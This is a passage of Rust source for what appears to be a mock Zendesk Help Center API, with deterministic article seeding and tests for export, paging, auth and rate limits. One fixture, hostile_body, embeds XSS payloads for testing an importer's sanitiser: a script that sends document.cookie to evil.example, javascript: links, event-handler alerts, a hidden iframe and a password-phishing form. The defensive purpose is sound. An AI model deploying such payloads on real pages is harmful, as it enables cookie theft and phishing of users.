    "Nur Administratoren können diese Einstellungen ändern.",
    "Änderungen gelten sofort für alle Mitglieder Ihres Teams.",
    "Der Export läuft im Hintergrund; Sie erhalten eine E-Mail, sobald die Datei bereit ist.",
    "Sie können die Änderung jederzeit auf derselben Seite rückgängig machen.",
    "Wir empfehlen, die Einrichtung zuerst in einem Testkonto zu prüfen.",
    "Berichte enthalten die Aktivitäten der letzten 90 Tage.",
    "Wenden Sie sich an den Support, wenn die Option in Ihrem Tarif ausgegraut ist.",
];

const SENTENCES_FR: [&str; 8] = [
    "Cet article explique ce qui change lorsque vous activez la fonctionnalité.",
    "Seuls les administrateurs peuvent modifier ces paramètres.",
    "Les modifications s'appliquent immédiatement à tous les membres de votre équipe.",
    "L'export s'exécute en arrière-plan et vous recevez un e-mail lorsque le fichier est prêt.",
    "Vous pouvez annuler la modification à tout moment depuis la même page.",
    "Nous vous recommandons de tester la configuration dans un compte de test.",
    "Les rapports incluent l'activité des 90 derniers jours.",
    "Contactez le support si l'option est grisée dans votre offre.",
];

const LABELS: [&str; 10] = [
    "billing",
    "account",
    "security",
    "api",
    "mobile",
    "integrations",
    "troubleshooting",
    "getting-started",
    "admin",
    "sso",
];

fn sentence(locale: &str, x: u64) -> &'static str {
    match lang(locale) {
        1 => SENTENCES_DE[pick(x, SENTENCES_DE.len())],
        2 => SENTENCES_FR[pick(x, SENTENCES_FR.len())],
        _ => SENTENCES_EN[pick(x, SENTENCES_EN.len())],
    }
}

fn heading(n: usize, locale: &str) -> String {
    localized(&HEADINGS[n % HEADINGS.len()], locale)
}

fn article_title(i: usize, locale: &str) -> String {
    let l = lang(locale);
    let text = format!(
        "{} {}{}",
        TASKS[i % TASKS.len()][l],
        OBJECTS[(i / TASKS.len()) % OBJECTS.len()][l],
        QUALIFIERS[(i / (TASKS.len() * OBJECTS.len())) % QUALIFIERS.len()][l],
    );
    if l == 0 && !locale.starts_with("en") {
        format!("{text} ({locale})")
    } else {
        text
    }
}

/// Where an article body links and what its image is.
struct BodyRefs<'a> {
    sub: &'a str,
    locale: &'a str,
    attachment_id: u64,
    related_id: u64,
    title: &'a str,
}

/// A realistic body of about 3 KB: headings, paragraphs, lists, an image, links.
fn article_body(refs: &BodyRefs<'_>, seed: u64) -> String {
    let BodyRefs {
        sub,
        locale,
        attachment_id,
        related_id,
        title,
    } = *refs;
    let mut k = 0u64;
    let mut next = || {
        k += 1;
        sentence(locale, seed.wrapping_mul(131).wrapping_add(k))
    };
    let mut body = String::with_capacity(4096);
    let _ = write!(body, "<h2>{}</h2>", heading(0, locale));
    for _ in 0..3 {
        body.push_str("<p>");
        for _ in 0..5 {
            body.push_str(next());
            body.push(' ');
        }
        body.push_str("</p>");
    }
    let _ = write!(body, "<h3>{}</h3><ul>", heading(1, locale));
    for _ in 0..4 {
        let _ = write!(body, "<li>{}</li>", next());
    }
    let _ = write!(body, "</ul><h3>{}</h3><ol>", heading(2, locale));
    for step in 1..=5 {
        let _ = write!(body, "<li><strong>{step}.</strong> {}</li>", next());
    }
    body.push_str("</ol>");
    let _ = write!(
        body,
        "<p><img src=\"https://{sub}.zendesk.com/hc/article_attachments/{attachment_id}\" alt=\"{}\" width=\"640\" height=\"360\"></p>",
        escape_html(title)
    );
    if seed.is_multiple_of(5) {
        let _ = write!(
            body,
            "<pre><code>curl https://{sub}.zendesk.com/api/v2/help_center/articles.json \\\n  -u admin@example.com/token:$TOKEN</code></pre>"
        );
    }
    body.push_str("<p>");
    for _ in 0..4 {
        body.push_str(next());
        body.push(' ');
    }
    body.push_str("</p>");
    let _ = write!(
        body,
        "<h3>{}</h3><ul><li><a href=\"https://{sub}.zendesk.com/hc/{locale}/articles/{related_id}\">{}</a></li><li><a href=\"https://developer.example.com/docs/guides/{seed}\" target=\"_blank\" rel=\"noopener\">Developer guide</a></li></ul>",
        heading(3, locale),
        escape_html(&article_title(
            usize::try_from(related_id % 1000).unwrap_or(0),
            locale
        )),
    );
    body
}

/// A body over [`DYNAMODB_ITEM_LIMIT`]: an ordinary one followed by long appendices.
fn large_body(refs: &BodyRefs<'_>, seed: u64) -> String {
    let mut body = article_body(refs, seed);
    let mut part = 0u64;
    while body.len() <= LARGE_BODY_BYTES {
        part += 1;
        let _ = write!(body, "<h3>Appendix {part}</h3><p>");
        for k in 0..8 {
            body.push_str(sentence(refs.locale, seed ^ (part * 16 + k)));
            body.push(' ');
        }
        body.push_str("</p>");
    }
    body
}

/// An ordinary body with script, event handlers, `javascript:` links, an iframe and a form
/// mixed in: what an importer must sanitise.
fn hostile_body(refs: &BodyRefs<'_>, seed: u64) -> String {
    let hostile = format!(
        concat!(
            "<p>If you are sent back to the sign-in page after signing in, clear your cookies first.</p>",
            "<script>fetch('https://evil.example/steal?c=' + encodeURIComponent(document.cookie))</script>",
            "<p><img src=\"https://{sub}.zendesk.com/hc/article_attachments/{att}\" alt=\"Sign-in page\" onerror=\"alert(document.domain)\"></p>",
            "<p>Still stuck? <a href=\"javascript:alert('xss')\">Open the troubleshooting assistant</a> or ",
            "<a href=\" JaVaScRiPt:void(document.location='https://evil.example')\">reset your session</a>.</p>",
            "<iframe src=\"https://evil.example/frame\" width=\"1\" height=\"1\"></iframe>",
            "<p onmouseover=\"alert(1)\" style=\"background-image:url(javascript:alert(2))\">Hover here for tips.</p>",
            "<svg><script>alert(3)</script></svg>",
            "<form action=\"https://evil.example/phish\"><input name=\"password\" type=\"password\"></form>",
        ),
        sub = refs.sub,
        att = refs.attachment_id,
    );
    hostile + &article_body(refs, seed)
}

/// Which body an article gets.
#[derive(Clone, Copy, PartialEq, Eq)]
enum BodyKind {
    Ordinary,
    Large,
    Hostile,
}

/// Builds the seeded centre; also answers the large and hostile articles' ids.
fn build_centre(
    sub: &str,
    seed: &HelpCenterSeed,
    author_id: u64,
) -> (Centre, Option<u64>, Option<u64>) {
    let default_locale = {
        let l = seed.default_locale.trim().to_ascii_lowercase();
        if locale_segment(&l) {
            l
        } else {
            DEFAULT_LOCALE.to_owned()
        }
    };
    let mut others: Vec<String> = Vec::new();
    for raw in &seed.translation_locales {
        let l = raw.trim().to_ascii_lowercase();
        if locale_segment(&l) && l != default_locale && !others.contains(&l) {
            others.push(l);
        }
    }
    let mut locales: Vec<String> = std::iter::once(default_locale.clone())
        .chain(others.iter().cloned())
        .collect();
    locales.sort();
    let mut centre = Centre {
        default_locale: default_locale.clone(),
        locales,
        ..Centre::empty(author_id)
    };

    for c in 0..seed.categories.max(1) {
        let entry = &CATEGORY_NAMES[c % CATEGORY_NAMES.len()];
        let round = c / CATEGORY_NAMES.len();
        let texts = centre
            .locales
            .iter()
            .map(|l| {
                let mut name = localized(entry, l);
                if round > 0 {
                    let _ = write!(name, " {}", round + 1);
                }
                let description = CATEGORY_DESCRIPTIONS[lang(l)].replace("{}", &name);
                (l.clone(), (name, description))
            })
            .collect();
        let created_at = SEED_EPOCH + c as i64 * 3600;
        centre.categories.push(Category {
            id: FIRST_CATEGORY_ID + c as u64,
            position: c as i64,
            created_at,
            updated_at: created_at + 86_400,
            texts,
        });
    }
    let per_category = seed.sections_per_category.max(1);
    for (c, category) in centre.categories.iter().enumerate() {
        for p in 0..per_category {
            let s = c * per_category + p;
            let topic = &TOPICS[(s + s / TOPICS.len()) % TOPICS.len()];
            let pattern = &SECTION_PATTERNS[s % SECTION_PATTERNS.len()];
            let texts = centre
                .locales
                .iter()
                .map(|l| {
                    let topic_text = localized(topic, l);
                    let name = match lang(l) {
                        0 if !l.starts_with("en") => {
                            format!("{} ({l})", pattern[0].replace("{}", topic[0]))
                        }
                        n => pattern[n].replace("{}", topic[n]),
                    };
                    let description = CATEGORY_DESCRIPTIONS[lang(l)].replace("{}", &topic_text);
                    (l.clone(), (name, description))
                })
                .collect();
            let created_at = category.created_at + 600 + p as i64 * 60;
            centre.sections.push(Section {
                id: FIRST_SECTION_ID + s as u64,
                category_id: category.id,
                position: p as i64,
                created_at,
                updated_at: created_at + 86_400,
                texts,
            });
        }
    }

    let n = seed.articles;
    let large_index = seed.large_article.then_some(0).filter(|i| *i < n);
    let hostile_index = seed
        .hostile_article
        .then_some(usize::from(seed.large_article))
        .filter(|i| *i < n);
    let window = (n as u64 / 2).max(1);
    let updated_base = SEED_EPOCH + n as i64 * 60 + 86_400;
    let section_ids: Vec<u64> = centre.sections.iter().map(|s| s.id).collect();
    let mut per_section: BTreeMap<u64, i64> = BTreeMap::new();
    for i in 0..n {
        let x = i as u64;
        let id = FIRST_ARTICLE_ID + x;
        let kind = if Some(i) == large_index {
            BodyKind::Large
        } else if Some(i) == hostile_index {
            BodyKind::Hostile
        } else {
            BodyKind::Ordinary
        };
        let created_at = SEED_EPOCH + i as i64 * 60;
        let updated_at = if i < seed.same_second_burst {
            updated_base
        } else {
            updated_base + (mix(x ^ 0x0005_eed0) % window) as i64
        };
        let section_id = section_ids
            .get(pick(x ^ 0x5ec7, section_ids.len()))
            .copied()
            .unwrap_or(FIRST_SECTION_ID);
        let position = {
            let slot = per_section.entry(section_id).or_insert(0);
            *slot += 1;
            *slot - 1
        };
        let draft =
            kind == BodyKind::Ordinary && mix(x ^ 0xd4af) % 100 < u64::from(seed.draft_percent);
        let translated = kind == BodyKind::Ordinary
            && mix(x ^ 0x7a45) % 100 < u64::from(seed.translated_percent);
        let mut label_names: Vec<String> = Vec::new();
        for k in 0..(mix(x ^ 0x1abe) % 4) {
            let label = LABELS[pick(x.wrapping_mul(7).wrapping_add(k), LABELS.len())];
            if !label_names.iter().any(|l| l == label) {
                label_names.push(label.to_owned());
            }
        }
        let related_id = FIRST_ARTICLE_ID + (mix(x ^ 0x4e1a) % n as u64);
        let attachment_id = FIRST_ATTACHMENT_ID + x;
        let vote_count = mix(x ^ 0x707e) % 40;
        let down = mix(x ^ 0xd0e1) % (vote_count / 4 + 1);
        let locales: Vec<String> = if translated {
            std::iter::once(default_locale.clone())
                .chain(others.iter().cloned())
                .collect()
        } else {
            vec![default_locale.clone()]
        };
        let mut translations = Vec::with_capacity(locales.len());
        for locale in &locales {
            let title = match kind {
                BodyKind::Large => "Complete product reference (all settings)".to_owned(),
                BodyKind::Hostile => "Fixing sign-in loops & redirect errors".to_owned(),
                BodyKind::Ordinary => article_title(i, locale),
            };
            let refs = BodyRefs {
                sub,
                locale,
                attachment_id,
                related_id,
                title: &title,
            };
            let body = match kind {
                BodyKind::Large => large_body(&refs, x),
                BodyKind::Hostile => hostile_body(&refs, x),
                BodyKind::Ordinary => article_body(&refs, x),
            };
            let translation_created = if *locale == default_locale {
                created_at
            } else {
                created_at + 3_600
            };
            translations.push(HcTranslation {
                id: centre.next_translation_id,
                locale: locale.clone(),
                title,
                body,
                draft,
                created_at: translation_created,
                updated_at,
                edited_at: updated_at,
            });
            centre.next_translation_id += 1;
        }
        centre.articles.insert(
            id,
            HcArticle {
                id,
                section_id,
                author_id,
                permission_group_id: PERMISSION_GROUP_ID,
                user_segment_id: mix(x ^ 0x5e9)
                    .is_multiple_of(10)
                    .then_some(AGENTS_SEGMENT_ID),
                position,
                promoted: mix(x ^ 0x960).is_multiple_of(20),
                comments_disabled: mix(x ^ 0xc0d).is_multiple_of(7),
                vote_sum: vote_count as i64 - 2 * down as i64,
                vote_count,
                label_names,
                source_locale: default_locale.clone(),
                created_at,
                updated_at,
                archived: false,
                translations,
            },
        );
    }
    centre.next_article_id = FIRST_ARTICLE_ID + n as u64;
    let large = large_index.map(|i| FIRST_ARTICLE_ID + i as u64);
    let hostile = hostile_index.map(|i| FIRST_ARTICLE_ID + i as u64);
    (centre, large, hostile)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use axum::body::Bytes;
    use axum::http::HeaderMap;
    use axum::http::header::{AUTHORIZATION, CONTENT_TYPE};
    use base64::engine::general_purpose::STANDARD;

    use super::*;
    use crate::oauth::OAuthProvider;

    const HOST: &str = "https://acme.zendesk.com";

    fn api_token() -> String {
        format!(
            "Basic {}",
            STANDARD.encode("admin@acme.test/token:zd-sandbox-token-0001")
        )
    }

    fn request(path_and_query: &str, auth: Option<&str>) -> ProviderRequest {
        let (path, query) = match path_and_query.split_once('?') {
            Some((p, q)) => (p.to_owned(), Some(q.to_owned())),
            None => (path_and_query.to_owned(), None),
        };
        let mut headers = HeaderMap::new();
        if let Some(auth) = auth {
            headers.insert(AUTHORIZATION, HeaderValue::from_str(auth).unwrap());
        }
        ProviderRequest {
            method: Method::GET,
            host: "acme.zendesk.com".to_owned(),
            path,
            query,
            headers,
            body: Bytes::new(),
        }
    }

    /// Sends a request through the whole dispatch (counting, faults, routing).
    async fn call(
        state: &SandboxState,
        path_and_query: &str,
        auth: Option<&str>,
    ) -> (StatusCode, HeaderMap, String) {
        let response = crate::providers::dispatch(state, request(path_and_query, auth)).await;
        let status = response.status();
        let headers = response.headers().clone();
        let bytes = axum::body::to_bytes(response.into_body(), usize::MAX)
            .await
            .unwrap();
        (status, headers, String::from_utf8(bytes.to_vec()).unwrap())
    }

    async fn get(state: &SandboxState, path_and_query: &str) -> (StatusCode, Value) {
        let (status, _, body) = call(state, path_and_query, Some(&api_token())).await;
        (status, serde_json::from_str(&body).unwrap())
    }

    /// Runs an incremental export from `start` to its end: each page's articles, and the
    /// last non-null `end_time`.
    async fn export(state: &SandboxState, start: i64) -> (Vec<Vec<Value>>, Option<i64>) {
        let mut url = format!("/api/v2/help_center/incremental/articles.json?start_time={start}");
        let mut pages = Vec::new();
        let mut end = None;
        loop {
            let (status, body) = get(state, &url).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            pages.push(body["articles"].as_array().unwrap().clone());
            if let Some(e) = body["end_time"].as_i64() {
                end = Some(e);
            }
            match body["next_page"].as_str() {
                Some(next) => {
                    assert!(next.ends_with(&format!("start_time={}", body["end_time"])));
                    url = next.strip_prefix(HOST).unwrap().to_owned();
                }
                None => return (pages, end),
            }
            assert!(pages.len() < 100, "the export does not end");
        }
    }

    fn ids(pages: &[Vec<Value>]) -> Vec<u64> {
        pages
            .iter()
            .flatten()
            .map(|a| a["id"].as_u64().unwrap())
            .collect()
    }

    #[test]
    fn paths_are_matched_with_or_without_json_and_locale() {
        let at = parse_path;
        assert_eq!(
            at("/api/v2/help_center/incremental/articles.json").map(|p| p.route),
            Some(HcRoute::IncrementalArticles)
        );
        assert_eq!(
            at("/api/v2/help_center/en-us/articles/360001000001.json"),
            Some(HcPath {
                route: HcRoute::Article,
                locale: Some("en-us"),
                id: Some(360_001_000_001)
            })
        );
        assert_eq!(
            at("/api/v2/help_center/de/sections").map(|p| p.route),
            Some(HcRoute::Sections)
        );
        assert_eq!(
            at("/api/v2/help_center/locales.json").map(|p| p.route),
            Some(HcRoute::Locales)
        );
        for unserved in [
            "/api/v2/help_center/articles/search",
            "/api/v2/help_center/articles/labels.json",
            "/api/v2/help_center/sections/1/articles",
            "/api/v2/help_center/en-us/articles/abc",
            "/api/v2/help_center/incremental/sections",
            "/api/v2/help_center/",
        ] {
            assert_eq!(at(unserved), None, "{unserved}");
        }
        assert_eq!(iso(1_704_067_200), "2024-01-01T00:00:00Z");
        assert_eq!(
            slug("Fixing sign-in loops & redirect errors"),
            "Fixing-sign-in-loops-redirect-errors"
        );
    }

    #[tokio::test]
    async fn the_export_pages_through_ten_thousand_articles_each_exactly_once() {
        let state = SandboxState::new();
        let summary = state.seed_help_center(
            "acme",
            HelpCenterSeed {
                articles: 10_000,
                same_second_burst: 1_200,
                ..HelpCenterSeed::default()
            },
        );
        assert_eq!(summary.article_ids.len(), 10_000);
        let (pages, end) = export(&state, 0).await;
        let seen = ids(&pages);
        let unique: BTreeSet<u64> = seen.iter().copied().collect();
        assert_eq!(seen.len(), unique.len(), "an article came twice");
        assert_eq!(unique, summary.article_ids.iter().copied().collect());
        assert_eq!(end, summary.newest_updated_at);
        // The burst's second is never split: the first page grows past 1,000.
        let first: BTreeSet<&str> = pages[0]
            .iter()
            .map(|a| a["updated_at"].as_str().unwrap())
            .collect();
        assert!(pages[0].len() >= 1_200, "{}", pages[0].len());
        assert_eq!(first.len(), 1);
        assert!(pages.iter().skip(1).all(|p| p.len() <= 1_100));
        // Oldest first, in the source locale, drafts included.
        let times: Vec<&str> = pages
            .iter()
            .flatten()
            .map(|a| a["updated_at"].as_str().unwrap())
            .collect();
        assert!(times.windows(2).all(|w| w[0] <= w[1]));
        assert!(pages.iter().flatten().all(|a| a["locale"] == "en-us"));
        let drafts = pages
            .iter()
            .flatten()
            .filter(|a| a["draft"] == true)
            .count();
        assert_eq!(drafts, summary.drafts);
        assert_eq!(state.calls(HC_INCREMENTAL_ARTICLES), pages.len() as u64);
    }

    #[tokio::test]
    async fn an_export_from_the_last_end_time_returns_only_what_changed_since() {
        let state = SandboxState::new();
        let summary = state.seed_help_center("acme", HelpCenterSeed::default());
        let t = state.hc_now("acme");
        state.hc_set_clock("acme", Some(t));
        let (_, end) = export(&state, 0).await;
        let end = end.unwrap();

        let [a, b, c, d] = [0, 1, 2, 3].map(|i| summary.article_ids[i]);
        let change = HcArticleChange {
            title: Some("Renamed".to_owned()),
            ..HcArticleChange::default()
        };
        assert_eq!(
            state
                .hc_update_article("acme", a, change)
                .unwrap()
                .updated_at,
            t
        );
        assert!(state.hc_set_draft("acme", b, true).unwrap().draft());
        assert!(state.hc_archive_article("acme", c));
        // Still the current second: held back, so nothing later in it can be missed.
        let (pages, none) = export(&state, end).await;
        assert!(ids(&pages).is_empty());
        assert_eq!(none, None);
        // A change later in the same second comes with the others.
        let german = HcArticleChange {
            locale: Some("de".to_owned()),
            body: Some("<p>Neu</p>".to_owned()),
            ..HcArticleChange::default()
        };
        let translated = state.hc_update_article("acme", d, german).unwrap();
        assert_eq!(translated.translation("de").unwrap().body, "<p>Neu</p>");

        state.hc_advance_clock("acme", 1);
        let (pages, resumed) = export(&state, end).await;
        let changed: BTreeSet<u64> = ids(&pages).into_iter().collect();
        assert_eq!(
            changed,
            BTreeSet::from([a, b, d]),
            "archived {c} is not reported"
        );
        assert_eq!(resumed, Some(t));
        let by_id = |id: u64| {
            pages
                .iter()
                .flatten()
                .find(|x| x["id"] == id)
                .unwrap()
                .clone()
        };
        assert_eq!(by_id(a)["title"], "Renamed");
        assert_eq!(by_id(b)["draft"], true);

        // Resuming from that end time: nothing twice, then only the next change.
        let (pages, _) = export(&state, t).await;
        assert!(ids(&pages).is_empty());
        state.hc_advance_clock("acme", 5);
        let e = summary.article_ids[10];
        let stamp = state
            .hc_update_article("acme", e, HcArticleChange::default())
            .unwrap()
            .updated_at;
        assert_eq!(stamp, t + 6);
        state.hc_advance_clock("acme", 1);
        let (pages, last) = export(&state, t).await;
        assert_eq!(ids(&pages), vec![e]);
        assert_eq!(last, Some(stamp));
        // A restored article comes back.
        assert!(state.hc_restore_article("acme", c));
        state.hc_advance_clock("acme", 1);
        let (pages, _) = export(&state, stamp).await;
        assert_eq!(ids(&pages), vec![c]);
    }

    #[tokio::test]
    async fn archived_articles_leave_lists_and_shows() {
        let state = SandboxState::new();
        let summary = state.seed_help_center(
            "acme",
            HelpCenterSeed {
                articles: 20,
                ..HelpCenterSeed::default()
            },
        );
        let gone = summary.article_ids[5];
        let show = format!("/api/v2/help_center/articles/{gone}.json");
        assert_eq!(get(&state, &show).await.0, StatusCode::OK);
        assert!(state.hc_archive_article("acme", gone));
        assert!(!state.hc_archive_article("acme", gone));
        for path in [show, format!("/api/v2/help_center/en-us/articles/{gone}")] {
            let (status, body) = get(&state, &path).await;
            assert_eq!(status, StatusCode::NOT_FOUND);
            assert_eq!(
                body,
                json!({"error": "RecordNotFound", "description": "Not found"})
            );
        }
        let (status, body) = get(&state, "/api/v2/help_center/articles.json?per_page=100").await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(body["count"], 19);
        assert!(
            body["articles"]
                .as_array()
                .unwrap()
                .iter()
                .all(|a| a["id"] != gone)
        );
        assert!(state.hc_article("acme", gone).unwrap().archived);
        assert_eq!(state.hc_articles("acme").len(), 20);
    }

    #[tokio::test]
    async fn lists_page_by_offset_and_by_cursor() {
        let state = SandboxState::new();
        let summary = state.seed_help_center(
            "acme",
            HelpCenterSeed {
                articles: 250,
                ..HelpCenterSeed::default()
            },
        );
        let mut seen = Vec::new();
        let mut url =
            "/api/v2/help_center/articles.json?per_page=100&sort_by=created_at".to_owned();
        loop {
            let (status, body) = get(&state, &url).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            assert_eq!(
                (body["count"].clone(), body["page_count"].clone()),
                (json!(250), json!(3))
            );
            seen.extend(ids(&[body["articles"].as_array().unwrap().clone()]));
            match body["next_page"].as_str() {
                Some(next) => url = next.strip_prefix(HOST).unwrap().to_owned(),
                None => break,
            }
        }
        assert_eq!(
            seen, summary.article_ids,
            "created_at order is id order here"
        );

        let (_, body) = get(&state, "/api/v2/help_center/en-us/articles?per_page=500").await;
        assert_eq!(body["per_page"], 100);
        assert_eq!(body["articles"].as_array().unwrap().len(), 100);
        let (status, body) =
            get(&state, "/api/v2/help_center/articles?page=101&per_page=100").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(body["errors"][0]["code"], "InvalidPaginationDepth");

        let mut cursor_ids = Vec::new();
        let mut url =
            "/api/v2/help_center/articles.json?page[size]=100&sort_by=updated_at&sort_order=desc"
                .to_owned();
        loop {
            let (status, body) = get(&state, &url).await;
            assert_eq!(status, StatusCode::OK, "{body}");
            let page = body["articles"].as_array().unwrap().clone();
            cursor_ids.extend(ids(&[page]));
            match body["links"]["next"].as_str() {
                Some(next) => {
                    assert_eq!(body["meta"]["has_more"], true);
                    url = next.strip_prefix(HOST).unwrap().to_owned();
                }
                None => {
                    assert_eq!(body["meta"]["has_more"], false);
                    break;
                }
            }
        }
        let unique: BTreeSet<u64> = cursor_ids.iter().copied().collect();
        assert_eq!((cursor_ids.len(), unique.len()), (250, 250));
        let (status, body) = get(&state, "/api/v2/help_center/articles?page[size]=101").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert_eq!(body["errors"][0]["code"], "InvalidPaginationParameter");

        let german = state
            .hc_articles("acme")
            .iter()
            .filter(|a| a.translation("de").is_some())
            .count();
        assert!(german > 0 && german < 250);
        let (_, body) = get(&state, "/api/v2/help_center/de/articles.json").await;
        assert_eq!(body["count"], german);
        assert!(
            body["articles"]
                .as_array()
                .unwrap()
                .iter()
                .all(|a| a["locale"] == "de")
        );
        let (_, body) = get(
            &state,
            "/api/v2/help_center/articles?label_names=billing,api",
        )
        .await;
        assert!(body["articles"].as_array().unwrap().iter().all(|a| {
            let labels = a["label_names"].as_array().unwrap();
            labels.contains(&json!("billing")) && labels.contains(&json!("api"))
        }));
    }

    #[tokio::test]
    async fn sections_categories_locales_and_shows() {
        let state = SandboxState::new();
        let summary = state.seed_help_center("acme", HelpCenterSeed::default());
        let (_, body) = get(&state, "/api/v2/help_center/locales.json").await;
        assert_eq!(
            body,
            json!({"locales": ["de", "en-us", "fr"], "default_locale": "en-us"})
        );
        let (_, body) = get(&state, "/api/v2/help_center/fr/sections.json").await;
        assert_eq!(body["count"], 12);
        assert_eq!(body["sections"][0]["locale"], "fr");
        let (_, body) = get(&state, "/api/v2/help_center/en-us/categories").await;
        assert_eq!(body["categories"][0]["name"], "Getting started");
        assert_eq!(body["count"], 4);
        let (status, body) = get(&state, "/api/v2/help_center/xx-yy/articles").await;
        assert_eq!(
            (status, body["error"].clone()),
            (StatusCode::NOT_FOUND, json!("RecordNotFound"))
        );

        let id = summary.article_ids[7];
        let (status, body) = get(
            &state,
            &format!("/api/v2/help_center/articles/{id}?include=translations"),
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        let article = &body["article"];
        for member in [
            "id",
            "url",
            "html_url",
            "author_id",
            "comments_disabled",
            "draft",
            "promoted",
            "position",
            "vote_sum",
            "vote_count",
            "section_id",
            "created_at",
            "updated_at",
            "name",
            "title",
            "source_locale",
            "locale",
            "outdated",
            "outdated_locales",
            "edited_at",
            "user_segment_id",
            "permission_group_id",
            "content_tag_ids",
            "label_names",
            "body",
            "translations",
        ] {
            assert!(article.get(member).is_some(), "{member} missing");
        }
        assert_eq!(article["author_id"], 123);
        assert!(article["body"].as_str().unwrap().contains("<img src="));
        let sorted = get(&state, "/api/v2/help_center/articles?sort_by=title").await;
        assert_eq!(sorted.0, StatusCode::BAD_REQUEST);
        let bogus = get(&state, "/api/v2/help_center/en-us/articles?sort_by=votes").await;
        assert_eq!(bogus.1["error"]["title"], "Invalid attribute");
    }

    #[tokio::test]
    async fn the_incremental_export_needs_a_start_time() {
        let state = SandboxState::new();
        state.seed_help_center("acme", HelpCenterSeed::default());
        let (status, body) = get(&state, "/api/v2/help_center/incremental/articles").await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("start_time")
        );
        let (status, _) = get(
            &state,
            "/api/v2/help_center/incremental/articles?start_time=yesterday",
        )
        .await;
        assert_eq!(status, StatusCode::BAD_REQUEST);
        let future = state.hc_now("acme") + 3_600;
        let (status, body) = get(
            &state,
            &format!("/api/v2/help_center/incremental/articles?start_time={future}"),
        )
        .await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(
            body,
            json!({"articles": [], "next_page": null, "end_time": null, "count": 0})
        );
    }

    #[tokio::test]
    async fn oauth_tokens_need_read_or_hc_read_and_api_tokens_must_match() {
        let state = SandboxState::new();
        state.seed_help_center("acme", HelpCenterSeed::default());
        let url = "/api/v2/help_center/articles.json";
        let token = |scope: &str| {
            let grant = state
                .seed_grant(
                    OAuthProvider::Zendesk,
                    "zendesk-sandbox-client-id",
                    None,
                    &[scope],
                )
                .unwrap();
            format!("Bearer {}", grant.access_token)
        };
        let (status, _, body) = call(&state, url, Some(&token("tickets:read"))).await;
        assert_eq!(status, StatusCode::FORBIDDEN);
        assert_eq!(
            serde_json::from_str::<Value>(&body).unwrap(),
            json!({"error": "Forbidden", "description": "You are missing the following required scopes: read"})
        );
        for scope in ["hc:read", "read"] {
            assert_eq!(
                call(&state, url, Some(&token(scope))).await.0,
                StatusCode::OK
            );
        }
        let (status, _, body) = call(&state, url, None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED);
        assert!(body.contains("Couldn't authenticate you"));
        let wrong = format!("Basic {}", STANDARD.encode("admin@acme.test/token:nope"));
        assert_eq!(
            call(&state, url, Some(&wrong)).await.0,
            StatusCode::UNAUTHORIZED
        );
        // The Support routes are still served beside the Help Center.
        assert_eq!(
            call(&state, "/api/v2/users/me.json", Some(&api_token()))
                .await
                .0,
            StatusCode::OK
        );
        let (status, _, body) = call(
            &state,
            "/api/v2/help_center/articles/search.json",
            Some(&api_token()),
        )
        .await;
        assert_eq!(status, StatusCode::NOT_FOUND);
        assert!(body.contains("InvalidEndpoint"));
        assert_eq!(state.calls(HC_ARTICLES), 5);
        assert_eq!(state.calls(support::USERS_ME), 1);
        assert_eq!(state.calls(support::UNKNOWN), 1);
    }

    #[tokio::test]
    async fn the_rate_limit_and_the_429_storm() {
        let state = SandboxState::new();
        state.seed_help_center("acme", HelpCenterSeed::default());
        let url = "/api/v2/help_center/locales.json";
        state.hc_set_rate_limit("acme", 3);
        for remaining in [2, 1, 0] {
            let (status, headers, _) = call(&state, url, Some(&api_token())).await;
            assert_eq!(status, StatusCode::OK);
            assert_eq!(headers["x-rate-limit"], "3");
            assert_eq!(
                headers["x-rate-limit-remaining"],
                remaining.to_string().as_str()
            );
        }
        let (status, headers, body) = call(&state, url, Some(&api_token())).await;
        assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
        assert_eq!(body, RATE_LIMIT_BODY);
        assert!(
            headers[CONTENT_TYPE]
                .to_str()
                .unwrap()
                .starts_with("text/plain")
        );
        let wait: u64 = headers[RETRY_AFTER].to_str().unwrap().parse().unwrap();
        assert!((1..=60).contains(&wait));
        assert_eq!(headers["x-rate-limit-remaining"], "0");
        // The Support API has its own budget.
        assert_eq!(
            call(&state, "/api/v2/users/me.json", Some(&api_token()))
                .await
                .0,
            StatusCode::OK
        );

        let state = SandboxState::new();
        state.hc_throttle_next("acme", 2, 7);
        for _ in 0..2 {
            let (status, headers, _) = call(&state, url, Some(&api_token())).await;
            assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
            assert_eq!(headers[RETRY_AFTER], "7");
        }
        let (status, headers, _) = call(&state, url, Some(&api_token())).await;
        assert_eq!(status, StatusCode::OK);
        assert_eq!(headers["x-rate-limit"], "700");
        assert_eq!(state.calls(HC_LOCALES), 3);
    }

    #[tokio::test]
    async fn the_large_and_the_hostile_articles() {
        let state = SandboxState::new();
        let summary = state.seed_help_center(
            "acme",
            HelpCenterSeed {
                articles: 10,
                large_article: true,
                hostile_article: true,
                ..HelpCenterSeed::default()
            },
        );
        let large = summary.large_article_id.unwrap();
        let (status, body) = get(&state, &format!("/api/v2/help_center/articles/{large}")).await;
        assert_eq!(status, StatusCode::OK);
        assert!(body["article"]["body"].as_str().unwrap().len() > DYNAMODB_ITEM_LIMIT);
        let hostile = summary.hostile_article_id.unwrap();
        assert_ne!(hostile, large);
        let article = state.hc_article("acme", hostile).unwrap();
        let html = &article.source().unwrap().body;
        for needle in [
            "<script>",
            "onerror=",
            "javascript:",
            "<iframe",
            "onmouseover=",
        ] {
            assert!(html.contains(needle), "{needle}");
        }
        let ordinary = state.hc_article("acme", summary.article_ids[5]).unwrap();
        let size = ordinary.source().unwrap().body.len();
        assert!((1_500..12_000).contains(&size), "{size}");
    }

    #[test]
    fn seeding_is_deterministic_and_adding_articles_works() {
        let a = SandboxState::new();
        let b = SandboxState::new();
        let seed = HelpCenterSeed {
            articles: 50,
            ..HelpCenterSeed::default()
        };
        a.seed_help_center("acme", seed.clone());
        b.seed_help_center("acme", seed);
